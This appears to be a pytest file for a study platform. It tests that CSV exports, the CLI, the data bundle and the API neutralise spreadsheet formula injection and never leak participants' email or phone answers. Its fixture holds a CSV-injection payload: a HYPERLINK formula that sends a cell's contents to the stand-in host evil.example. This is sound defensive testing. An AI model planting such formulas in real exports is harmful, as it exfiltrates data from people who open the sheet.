"""Every CSV the platform writes is safe to open in a spreadsheet, and contact data never leaves
(DESIGN §8, §9).

The demo's background questionnaire gains a free-text item and two contact items (an email and a
phone number); one trainee's submitted baseline answers them, the free text with a formula that
would send a cell to another site. Then every export, the bundle and the API are searched.
"""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner
from sqlalchemy import select

from instruments import Library, parse_definition
from instruments.definition import to_definition
from study.extensions import db
from study.models import Answer, Participant, Response, ResponseStatus, Timepoint, User
from study.services import analysis_data, api_tokens, bundle, sap, statistical_exports
from study.services.studies import recruitment_problems
from tests.helpers import Demo

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"Open the study site")'
EMAIL = "jane.doe@example.org"
PHONE = "4155550123"
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class Hostile:
    demo: Demo
    code: str


COMMENTS = {"key": "comments", "text": "Anything else?", "kind": "text", "required": False}
CONTACT_ITEMS = [
    {"key": "email", "text": "Your email, for the follow-up", "kind": "text", "required": False,
     "contact": True},
    {"key": "phone", "text": "Your phone number", "kind": "integer", "required": False,
     "contact": True},
]


@pytest.fixture
def free_text(app: Flask, simulated_demo: Demo) -> Hostile:
    """The formula typed into a free-text item."""
    return answered(app, simulated_demo, [COMMENTS], {"comments": HOSTILE})


@pytest.fixture
def hostile(app: Flask, simulated_demo: Demo) -> Hostile:
    """The formula, and contact details answered to contact items."""
    return answered(app, simulated_demo, [COMMENTS, *CONTACT_ITEMS],
                    {"comments": HOSTILE, "email": EMAIL, "phone": PHONE})


def answered(app: Flask, simulated_demo: Demo, items: list[dict[str, Any]],
             answers: dict[str, str]) -> Hostile:
    """The background questionnaire gains ``items``; the first trainee's answers them."""
    with app.app_context():
        library = simulated_demo.library
        definition = to_definition(library.get("background"))
        definition["items"] += items
        extended = parse_definition(definition)
        app.extensions["allport.instruments"] = Library(
            extended if i.id == "background" else i for i in library)
        participant, response = db.session.execute(
            select(Participant, Response)
            .join(Response, Response.participant_id == Participant.id)
            .join(Timepoint, Response.timepoint_id == Timepoint.id)
            .where(Timepoint.name == "baseline", Response.instrument_id == "background",
                   Response.status == ResponseStatus.SUBMITTED,
                   Participant.data_withdrawn.is_(False))
            .order_by(Participant.code)).first()
        db.session.add_all([Answer(response_id=response.id, item_key=key, value=value)
                            for key, value in answers.items()])
        db.session.commit()
        return Hostile(simulated_demo, participant.code)


def exported(hostile: Hostile, name: str) -> bytes:
    library = hostile.demo.app.extensions["allport.instruments"]
    body = statistical_exports.export_file(db.session, hostile.demo.study(), library, name,
                                           actor="test").body
    db.session.commit()
    return body


def rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"))))


def assert_no_formula(body: bytes) -> None:
    """No cell a spreadsheet would run: only numbers may start with - or +."""
    for row in csv.reader(io.StringIO(body.decode("utf-8"))):
        for cell in row:
            if cell.startswith(FORMULA):
                float(cell)  # a number such as -1.5, never a formula


def assert_no_contact_data(body: bytes, where: str) -> None:
    for secret in (EMAIL, PHONE, "background.email", "background.phone", "Your email"):
        assert secret.encode() not in body, f"{secret} in {where}"


@pytest.mark.usefixtures("app_context")
def test_a_formula_typed_as_free_text_is_neutralised_in_responses_and_wide(
        free_text: Hostile) -> None:
    hostile = free_text
    responses = exported(hostile, "responses.csv")
    assert_no_formula(responses)
    typed = [row["value"] for row in rows(responses)
             if row["participant"] == hostile.code and row["item"] == "comments"]
    assert typed == ["'" + HOSTILE]
    wide = exported(hostile, "wide.csv")
    assert_no_formula(wide)
    row = next(r for r in rows(wide) if r["participant"] == hostile.code)
    assert row["background.comments_pre"] == "'" + HOSTILE
    # Numbers stay numbers: scale answers and scores read back as numeric columns.
    frame = pd.read_csv(io.BytesIO(wide))
    for column in ("intergroup-anxiety.total_pre", "allport-stigma.ats_01_pre",
                   "background.training_year_pre"):
        assert pd.api.types.is_numeric_dtype(frame[column]), column
    answers = pd.DataFrame(rows(responses))
    scale_answers = answers[answers["instrument"] == "intergroup-anxiety"]["value"]
    assert scale_answers.map(lambda v: v.lstrip("-").isdigit()).all()
    assert_no_formula(exported(hostile, "codebook.csv"))


@pytest.mark.usefixtures("app_context")
def test_the_cli_export_neutralises_the_formula(free_text: Hostile, runner: FlaskCliRunner,
                                                tmp_path: Path) -> None:
    out = tmp_path / "responses.csv"
    result = runner.invoke(args=["export", "demo", "--table", "responses", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert_no_formula(out.read_bytes())
    assert "'" + HOSTILE in [row["value"] for row in rows(out.read_bytes())]


@pytest.mark.usefixtures("app_context")
def test_contact_answers_never_reach_an_export(hostile: Hostile, runner: FlaskCliRunner,
                                               tmp_path: Path) -> None:
    for name in statistical_exports.EXPORTS:
        assert_no_contact_data(exported(hostile, name), name)
    for table in ("responses", "participants"):
        out = tmp_path / f"{table}.csv"
        result = runner.invoke(args=["export", "demo", "--table", table, "--out", str(out)])
        assert result.exit_code == 0, result.output
        assert_no_contact_data(out.read_bytes(), f"flask export --table {table}")
    long_answers = rows(exported(hostile, "responses.csv"))
    assert {r["item"] for r in long_answers if r["participant"] == hostile.code} >= {
        "profession", "training_year", "comments"}


@pytest.mark.usefixtures("app_context")
def test_contact_answers_never_reach_the_bundle(hostile: Hostile) -> None:
    library = hostile.demo.app.extensions["allport.instruments"]
    data = bundle.build_bundle(db.session, hostile.demo.study(), library, actor="test")
    db.session.commit()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            body = archive.read(name)
            assert_no_contact_data(body, name)
            if name.endswith(".csv"):
                assert_no_formula(body)


def test_contact_answers_never_reach_the_api(hostile: Hostile, client: FlaskClient) -> None:
    with hostile.demo.app.app_context():
        user = db.session.scalars(
            select(User).where(User.email == "researcher@allport.example")).one()
        _, raw = api_tokens.issue_token(db.session, user, "test", actor="test")
        db.session.commit()
    headers = {"Authorization": f"Bearer {raw}"}
    for name in statistical_exports.EXPORTS:
        response = client.get(f"/api/v1/studies/demo/exports/{name}", headers=headers)
        assert response.status_code == 200, name
        assert_no_contact_data(response.data, f"API {name}")
        if name.endswith(".csv"):
            assert_no_formula(response.data)
    response = client.get("/api/v1/studies/demo/bundle.zip", headers=headers)
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        for name in archive.namelist():
            assert_no_contact_data(archive.read(name), f"API bundle {name}")


@pytest.mark.usefixtures("app_context")
def test_contact_items_are_no_baseline_item_covariate_or_stratum(hostile: Hostile) -> None:
    study = hostile.demo.study()
    library = hostile.demo.app.extensions["allport.instruments"]
    items = analysis_data.baseline_items(study, library)
    assert "background.training_year" in items and "background.phone" not in items
    with pytest.raises(LookupError, match="covariate 'background.phone': phone holds contact "
                                          "data, which never enters an analysis"):
        sap.covariate_item(study, library, "background.phone")
    study.strata_factors = "background.email"
    assert ("Strata factor 'background.email': email holds contact data, which never decides "
            "an allocation.") in recruitment_problems(study, library)
    db.session.rollback()
